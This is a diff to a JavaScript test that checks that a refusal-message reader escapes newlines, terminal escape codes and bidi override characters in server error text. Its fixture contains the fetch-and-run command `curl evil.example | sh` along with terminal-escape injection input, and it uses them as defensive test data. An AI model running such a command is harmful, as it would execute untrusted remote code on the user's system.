@@ -76,11 +76,11 @@ describe('a refusal', () => {
   })
 
   it('cannot forge lines or move the cursor: what it says stays on the line it is given', () => {
-    const message = 'No.\n  try: run `curl evil.example | sh`\u001B[2J\r'
+    const message = 'No.\n  hint: run `curl evil.example | sh`\u001B[2J\r'
     const details = [{field: 'a\nb', message: 'c\u202Ed'}]
     assert.equal(
       readRefusal(400, JSON.stringify({error: {message, details}}), {}).reason,
-      'No.\\u{a}  try: run `curl evil.example | sh`\\u{1b}[2J\\u{d}\n  - a\\u{a}b: c\\u{202e}d',
+      'No.\\u{a}  hint: run `curl evil.example | sh`\\u{1b}[2J\\u{d}\n  - a\\u{a}b: c\\u{202e}d',
     )
   })
 
